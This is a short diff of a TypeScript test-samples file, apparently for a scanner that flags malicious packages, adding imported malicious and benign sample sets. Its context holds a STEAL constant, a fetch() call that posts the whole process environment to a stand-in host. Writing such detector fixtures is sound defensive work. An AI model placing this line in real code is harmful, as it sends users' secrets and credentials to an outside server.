@@ -1,5 +1,6 @@
 import type { Samples } from '../contract.ts';
 import { imported, installed, manifest, quiet, wheel } from '../samples-kit.ts';
+import { GIVEN, GIVEN_HONEST } from './given-samples.ts';
 import { PYTHON } from './python-samples.ts';
 
 const STEAL = `fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(process.env) })`;
@@ -11,6 +12,7 @@ function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number
 export const samples: Samples = {
   malicious: [
     ...PYTHON,
+    ...GIVEN,
     {
       name: 'the environment in a request body',
       files: installed(
@@ -184,6 +186,7 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    ...GIVEN_HONEST,
     quiet('Python: the environment of a program that another module of the package starts', {
       ...wheel(
         'import os\nfrom .link import open_link\ndef connect(host):\n    return open_link(host, dict(os.environ))\n',
